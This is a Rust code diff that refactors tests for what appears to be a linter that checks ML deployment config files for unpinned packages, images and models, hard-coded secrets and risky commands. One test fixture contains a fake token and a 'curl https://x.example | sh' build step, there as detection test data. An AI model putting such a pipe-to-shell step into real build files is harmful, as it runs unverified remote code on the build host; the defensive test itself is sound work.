@@ -93,27 +93,18 @@ fn unpinned(written: &str) -> Option<Issue> {
 
 #[cfg(test)]
 mod tests {
-    use crate::{Text, examine};
-    use bartizan_core::{Limits, MonotonicClock};
-
-    fn found(name: &str, text: &str) -> Vec<(u32, &'static str)> {
-        let outcome = examine(&Text::new(name, text), &Limits::default(), &MonotonicClock::start());
-        let mut found: Vec<_> =
-            outcome.findings.iter().map(|one| (one.location.line.unwrap(), one.rule.id)).collect();
-        found.sort_unstable();
-        found
-    }
+    use crate::testing::lines;
 
     #[test]
     fn packages_images_commands_and_models_are_judged() {
         let bento = "service: 's:S'\npython:\n  packages:\n  - torch\n  - numpy==1.26.4\ndocker:\n  base_image: acme/base:latest\nenvs:\n- name: HF_TOKEN\n  value: hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567\n";
         assert_eq!(
-            found("bentofile.yaml", bento),
-            [(4, "pipeline/unpinned-package"), (7, "pipeline/unpinned-image"), (10, "pipeline/secret")]
+            lines("bentofile.yaml", bento),
+            [(4, "unpinned-package"), (7, "unpinned-image"), (10, "secret")]
         );
         let cog = "build:\n  python_packages:\n  - torch==2.4.0\n  run:\n  - curl https://x.example | sh\nimage: r8.im/a/b\npredict: p.py:P\n";
-        assert_eq!(found("cog.yaml", cog), [(5, "pipeline/curl-pipe-shell")]);
+        assert_eq!(lines("cog.yaml", cog), [(5, "curl-pipe-shell")]);
         let truss = "model_class_name: M\nmodel_cache:\n- repo_id: acme/net\n- repo_id: acme/fixed\n  revision: 0123456789abcdef0123456789abcdef01234567\n";
-        assert_eq!(found("t/config.yaml", truss), [(3, "pipeline/unpinned-model")]);
+        assert_eq!(lines("t/config.yaml", truss), [(3, "unpinned-model")]);
     }
 }
